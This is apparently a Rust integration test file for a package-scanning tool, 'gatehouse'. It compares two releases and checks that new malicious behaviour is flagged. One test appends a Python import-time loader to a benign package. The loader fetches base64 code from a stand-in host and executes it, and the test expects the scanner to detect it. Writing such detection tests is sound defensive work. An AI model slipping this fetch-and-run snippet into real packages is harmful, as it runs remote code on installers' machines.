//! `gatehouse diff` and `gatehouse scan --previous`: two releases held against each other, by the real binary.
#![allow(clippy::unwrap_used, reason = "a test")]

#[path = "scan/harness.rs"]
mod harness;

use std::path::{Path, PathBuf};
use std::process::Command;

use harness::{Run, World, assert_valid, listing, tar_gz};
use serde_json::Value;

fn gatehouse(arguments: &[&str]) -> Run {
    let mut command = Command::new(env!("CARGO_BIN_EXE_gatehouse"));
    Run::of(command.env_clear().env("XDG_CACHE_HOME", harness::cache()).args(arguments).output().unwrap())
}

fn repository() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// A release of a project of the corpus: its files, those of others put over them, and a version.
fn release(world: &World, project: &str, version: &str, over: &[(&str, &[u8])]) -> String {
    let folder = repository().join("corpus").join(project);
    let name = project.rsplit('/').next().unwrap().replace('-', "_");
    let root = format!("{name}-{version}");
    let mut files: Vec<(String, Vec<u8>)> = listing(&folder)
        .into_iter()
        .map(|path| {
            let inside = path.strip_prefix(&folder).unwrap().to_str().unwrap().to_owned();
            (inside, std::fs::read(path).unwrap())
        })
        .collect();
    let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: A demo\n\nA demo.\n");
    files.push(("PKG-INFO".to_owned(), metadata.into_bytes()));
    for (path, bytes) in over {
        files.retain(|(known, _)| known != path);
        files.push(((*path).to_owned(), bytes.to_vec()));
    }
    let files: Vec<(String, Vec<u8>)> = files.into_iter().map(|(path, b)| (format!("{root}/{path}"), b)).collect();
    let entries: Vec<(&str, &[u8])> = files.iter().map(|(path, bytes)| (path.as_str(), bytes.as_slice())).collect();
    let filename = format!("{root}.tar.gz");
    world.put(&filename, &tar_gz(&entries));
    world.path(&format!("dist/{filename}")).to_str().unwrap().to_owned()
}

#[test]
fn a_trojan_in_a_clean_project_is_what_is_new() {
    let world = World::new();
    let before = release(&world, "benign/http-client", "1.4.0", &[]);
    let folder = repository().join("corpus/benign/http-client");
    let module = listing(&folder).into_iter().find(|path| path.ends_with("__init__.py")).expect("a package");
    let inside = module.strip_prefix(&folder).unwrap().to_str().unwrap().to_owned();
    let trojan = "\n\ndef _warm():\n    import base64, subprocess, urllib.request\n    \
        subprocess.Popen(['python', '-c', base64.b64decode(urllib.request.urlopen('http://stage.invalid/2').read())])\n\n\n_warm()\n";
    let bytes = [std::fs::read(&module).unwrap(), trojan.as_bytes().to_vec()].concat();
    let after = release(&world, "benign/http-client", "1.4.1", &[(&inside, &bytes)]);

    let diff = gatehouse(&["diff", "--format", "json", &before, &after]);
    assert_eq!(diff.code, 1, "{diff:#?}");
    let difference: Value = serde_json::from_str(&diff.stdout).unwrap();
    assert_eq!((&difference["step"], &difference["gone"]), (&"patch".into(), &0.into()));
    let changes = difference["changes"].as_array().unwrap();
    assert!(
        changes.iter().all(|change| change["member"].as_str().unwrap().ends_with("__init__.py")),
        "{}",
        diff.stdout
    );
    let first = &changes[0];
    assert_eq!((&first["kind"], &first["phase"]), (&"flow".into(), &"import".into()), "{}", diff.stdout);
    assert!(first["first"].as_array().unwrap().contains(&"process.spawn".into()), "{first:#}");
    let weights: Vec<f64> = changes.iter().map(|change| change["weight"].as_f64().unwrap()).collect();
    assert!(weights.is_sorted_by(|one, other| one >= other), "the riskiest first: {weights:?}");

    let human = gatehouse(&["diff", &before, &after]);
    assert!(human.stdout.contains("a patch release") && human.stdout.contains("stage[.]invalid"), "{}", human.stdout);

    let scan = |arguments: &[&str]| {
        let mut all = vec!["scan", "--format", "jsonl"];
        all.extend(arguments);
        let run = gatehouse(&all);
        let line = run.lines().remove(0);
        assert_valid("schema/scan.v1.json", &line);
        line
    };
    let (alone, held) = (scan(&[&after]), scan(&["--previous", &before, &after]));
    let novel = |line: &Value| {
        let findings = line["findings"].as_array().unwrap().iter();
        findings.filter(|finding| finding["novel"] == true).map(|finding| finding["rule"].clone()).collect::<Vec<_>>()
    };
    assert!(novel(&alone).is_empty() && alone["difference"].is_null());
    assert!(novel(&held).contains(&"novel-fetch-and-run".into()), "{held:#}");
    assert!(held["score"].as_f64() >= alone["score"].as_f64());
    assert_eq!(held["findings"], scan(&["--previous", &before, &after])["findings"], "the same twice");
}

#[test]
fn what_was_always_there_is_not_new() {
    let world = World::new();
    let project = "malicious/import-fetch-exec";
    let (before, after) = (release(&world, project, "1.0.0", &[]), release(&world, project, "1.0.1", &[]));
    let diff = gatehouse(&["diff", "--format", "json", &before, &after]);
    assert_eq!(diff.code, 0, "{diff:#?}");
    let difference: Value = serde_json::from_str(&diff.stdout).unwrap();
    assert_eq!((&difference["total"], &difference["gone"]), (&0.into(), &0.into()));
    assert_ne!(difference["outcome"], "clear", "what is not new is judged all the same");
}

#[test]
fn a_release_that_was_only_reformatted_has_nothing_new() {
    // Every part of the analysis is in the corpus somewhere; a third of it is enough to see a key that depends on layout.
    const EVERY: usize = 3;
    let folder = tempfile::tempdir().unwrap();
    let (whole, old, new) = (folder.path().join("all"), folder.path().join("old"), folder.path().join("new"));
    for folder in [&whole, &old, &new] {
        std::fs::create_dir(folder).unwrap();
    }
    assert_eq!(gatehouse(&["corpus", whole.to_str().unwrap()]).code, 0);
    for path in listing(&whole).iter().step_by(EVERY) {
        std::fs::rename(path, old.join(path.file_name().unwrap())).unwrap();
    }
    let script = repository().join("tests/reformat.py");
    let packed = Command::new("python3").arg(script).args([&old, &new]).output().unwrap();
    assert!(packed.status.success(), "{}", String::from_utf8_lossy(&packed.stderr));
    let (mut compared, mut changed) = (0, 0);
    for before in listing(&old) {
        let after = new.join(before.file_name().unwrap());
        changed += usize::from(std::fs::read(&before).unwrap() != std::fs::read(&after).unwrap());
        let diff = gatehouse(&["diff", "--format", "json", before.to_str().unwrap(), after.to_str().unwrap()]);
        let difference: Value = serde_json::from_str(&diff.stdout).unwrap_or_else(|_| panic!("{diff:#?}"));
        // A table that was written over many lines is one long line now: that is how it looks, not what it does.
        let shape = |change: &&Value| change["kind"] != "shape" || change["rules"][0] != "source-long-line";
        let new: Vec<&Value> = difference["changes"].as_array().unwrap().iter().filter(shape).collect();
        assert!(new.is_empty(), "{}: {new:#?}", before.display());
        compared += 1;
    }
    assert!(compared >= 50 && changed == compared, "{compared} {changed}");
}

#[test]
fn a_release_before_that_cannot_be_read_is_said() {
    let world = World::new();
    let after = release(&world, "benign/http-client", "1.4.1", &[]);
    let run = gatehouse(&["scan", "--previous", "none-1.0.tar.gz", &after]);
    assert_eq!((run.code, run.stdout.as_str()), (2, ""));
    assert!(
        run.stderr.contains("cannot read the release before") && run.stderr.contains("none-1.0.tar.gz"),
        "{run:#?}"
    );
    // One that is no archive at all is compared as what it is: everything is new, and it is said what was not comparable.
    world.put("broken-1.0.tar.gz", b"nothing");
    let broken = world.path("dist/broken-1.0.tar.gz");
    let run = gatehouse(&["diff", broken.to_str().unwrap(), &after]);
    assert!(run.stdout.contains("not compared: the release before is a unknown"), "{run:#?}");
}
